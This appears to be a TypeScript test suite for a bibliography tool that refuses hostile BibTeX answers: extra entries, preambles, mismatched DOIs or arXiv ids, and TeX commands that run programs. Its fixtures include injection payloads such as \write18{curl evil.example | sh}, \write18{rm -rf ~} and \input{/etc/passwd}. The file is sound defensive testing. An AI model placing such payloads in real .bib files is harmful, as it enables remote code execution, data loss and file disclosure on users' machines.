// Hostile BibTeX from an authority: an answer must be exactly one entry of an expected type, for
// the DOI or arXiv id asked about, with nothing TeX would run. What is refused fails that lookup
// (the next authority is asked) and never reaches a .bib.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import type { ServerResponse } from 'node:http';
import { fixturePath, send, startStandInServer, type StandIn } from '../../../standin/server';
import { installDoi } from '../../../standin/doi';
import { installCrossref } from '../../../standin/crossref';
import { createHttpClient } from '../../../../src/core/net/http';
import { PacingRegistry } from '../../../../src/core/net/pacing';
import { resolveSettings, type Settings } from '../../../../src/core/settings/index';
import type { HttpClient } from '../../../../src/core/net/types';
import { assertBibtex, attachBibtex, BibtexMismatchError, BibtexUnavailableError, fetchBibtex, NotBibtexError } from '../../../../src/core/bibtex';
import { decideBibUpdate } from '../../../../src/core/manuscript/bibUpdate';
import { checkAuthorityBibtex } from '../../../../src/core/bibtex/authority';
import type { Candidate, PaperRecord } from '../../../../src/core/types';

const PERLMUTTER = readFileSync(fixturePath('bibtex', 'doi-cn-2019_10.1086_307221_apj-supernovae-math-quirk.bib'), 'utf8');
const RIESS = '@article{riess1998, title={Observational Evidence from Supernovae}, doi={10.1086/300499}, year={1998}}';
const PREAMBLE = '@preamble{"\\immediate\\write18{curl evil.example | sh}"}\n';

const record = (doi: string, extra: Partial<PaperRecord> = {}): PaperRecord => ({ id: `doi:${doi}`, source: 'arxiv', title: 'x', authors: [], doi, ...extra });

describe('hostile BibTeX from an authority', () => {
  let standIn: StandIn;
  let settings: Settings;
  let http: HttpClient;
  let doiAnswer: string | undefined;

  beforeEach(async () => {
    doiAnswer = undefined;
    standIn = await startStandInServer([installDoi, installCrossref]);
    // doi.org answers with the scripted text when a test sets one; Crossref stays the real recording.
    const scriptedDoi = (req: Parameters<Parameters<StandIn['handle']>[1]>[0], res: ServerResponse) => {
      if (doiAnswer !== undefined) return send(res, 200, doiAnswer, 'application/x-bibtex');
      const target = `${standIn.url}/crossref/works/${encodeURIComponent(decodeURIComponent(req.path.slice(1)))}/transform/application/x-bibtex`;
      send(res, 302, '', 'text/plain', { location: target });
    };
    standIn.handle('doi', scriptedDoi);
    settings = resolveSettings({ ...standIn.settings, 'http.retries': 0, 'sources.arxivBibtex.url': '' });
    http = createHttpClient(settings, { cacheDir: '', pacing: new PacingRegistry(), backoffMs: 1 });
  });
  afterEach(() => standIn.close());

  const refusedBy = async (answer: string, reason: RegExp) => {
    doiAnswer = answer;
    const result = await fetchBibtex(record('10.1086/307221'), { http, settings });
    // Crossref's real answer, with only its mangled maths repaired (src/core/bibtex/latexHealth.ts).
    assert.equal(result.bibtex, PERLMUTTER.replace('$\\{upOmega}$ and $\\{upLambda}$', '$\\Omega$ and $\\Lambda$'), 'the next authority (Crossref) gave the entry');
    assert.match(result.source, /\/crossref\/works\//);
    const refused = await fetchBibtex(record('10.1086/307221'), { http, settings: { ...settings, 'sources.crossref.url': '' } }).catch((e: unknown) => e);
    assert.ok(refused instanceof BibtexUnavailableError, String(refused));
    assert.match(refused.attempts[0]!.reason, reason);
  };

  it('refuses an answer with a second entry (a planted duplicate riess1998)', () =>
    refusedBy(`${PERLMUTTER}\n${RIESS}\n`, /the answer holds 2 entries, not one; refused/));

  it('refuses @preamble, @string and @comment, whatever follows', async () => {
    await refusedBy(PREAMBLE + PERLMUTTER, /holds an @preamble, which is never added to a \.bib/);
    await refusedBy(`@string{jnl = "Evil"}\n${PERLMUTTER}`, /holds an @string/);
    await refusedBy(`@comment{x}\n${PERLMUTTER}`, /holds an @comment/);
  });

  it('refuses an entry carrying a TeX command that writes files or runs programs', async () => {
    const hostile = PERLMUTTER.replace('title = {', 'title = {\\immediate\\write18{rm -rf ~}');
    await refusedBy(hostile, /the TeX command \\immediate, which no bibliography needs/);
    await refusedBy(PERLMUTTER.replace('title = {', 'title = {\\input{/etc/passwd}'), /\\input/);
  });

  it('refuses an unexpected entry type and text outside the entry', async () => {
    await refusedBy(PERLMUTTER.replace('@article', '@evil'), /unexpected type @evil/);
    await refusedBy(`${PERLMUTTER}\n\\immediate\\write18{x}`, /text outside the BibTeX entry/);
  });

  it('refuses the entry of another DOI: nine candidates do not all get doi={10.1/abc}', async () => {
    doiAnswer = '@article{abc, title={Something else}, doi={10.1/abc}, year={2020}}';
    const dois = ['10.1086/307221', '10.1126/science.169.3946.635', '10.1186/s12984-017-0305-3', '10.1007/bf01700692',
      '10.1016/j.xgen.2025.100814', '10.1101/2024.04.01.587366', '10.9999/a', '10.9999/b', '10.9999/c'];
    const deps = { http, settings: { ...settings, 'sources.crossref.url': '' } };
    const results = await Promise.all(dois.map((doi) => attachBibtex({ ...record(doi), sources: ['arxiv'], matchedQueries: [0], retrievalScore: 1 } as Candidate, deps, 'authorYearWord')));
    for (const [i, result] of results.entries()) {
      assert.equal(result.bibtex, undefined, dois[i]);
      assert.match(result.bibtexError ?? '', new RegExp(`the entry of DOI 10\\.1/abc, not of ${dois[i]!.replace(/[.()]/g, '\\$&')}; refused`));
    }
  });

  it('accepts the same DOI written another way (case, URL form, percent-encoding), refuses another', () => {
    const fetched = (doi: string) => PERLMUTTER.replace('doi = {10.1086/307221}', `doi = {${doi}}`);
    for (const doi of ['10.1086/307221', '10.1086/307221'.toUpperCase(), 'https://doi.org/10.1086%2F307221']) {
      assert.doesNotThrow(() => checkAuthorityBibtex(fetched(doi), { doi: '10.1086/307221' }), doi);
    }
    assert.throws(() => checkAuthorityBibtex(fetched('10.1086/307222'), { doi: '10.1086/307221' }), BibtexMismatchError);
  });

  it('checks an arXiv entry against the arXiv id asked about', async () => {
    const arxiv = '@misc{vaswani2017, title={Attention Is All You Need}, eprint={1706.03762v7}, archivePrefix={arXiv}}';
    const settingsArxiv = resolveSettings({ ...standIn.settings, 'http.retries': 0, 'sources.doi.url': '', 'sources.datacite.url': '' });
    standIn.handle('arxivBibtex', (_req, res) => send(res, 200, arxiv, 'text/plain'));
    const paper: PaperRecord = { id: 'arxiv:1706.03762', source: 'arxiv', title: 'x', authors: [], arxivId: '1706.03762' };
    assert.equal((await fetchBibtex(paper, { http, settings: settingsArxiv })).bibtex, arxiv);
    const other = { ...paper, id: 'arxiv:2004.07180', arxivId: '2004.07180' };
    const error = await fetchBibtex(other, { http, settings: settingsArxiv }).catch((e: unknown) => e);
    assert.ok(error instanceof BibtexUnavailableError);
    assert.match(error.message, /the entry of arXiv:1706\.03762, not of arXiv:2004\.07180; refused/);
  });

  it('never decides to append more than one entry to a .bib', () => {
    for (const bibtex of [`${PERLMUTTER}\n${RIESS}`, PREAMBLE + PERLMUTTER]) {
      assert.throws(() => decideBibUpdate([], { bibtex, key: 'Perlmutter_1999', doi: '10.1086/307221' }), NotBibtexError);
    }
    const decision = decideBibUpdate([], { bibtex: PERLMUTTER, key: 'Perlmutter_1999', doi: '10.1086/307221' });
    assert.equal(decision.action, 'append');
  });

  it('types a DOI mismatch apart from an answer that is not BibTeX at all', () => {
    assert.throws(() => assertBibtex('<!doctype html><title>x</title>'), (e: unknown) => e instanceof NotBibtexError && !(e instanceof BibtexMismatchError));
  });
});
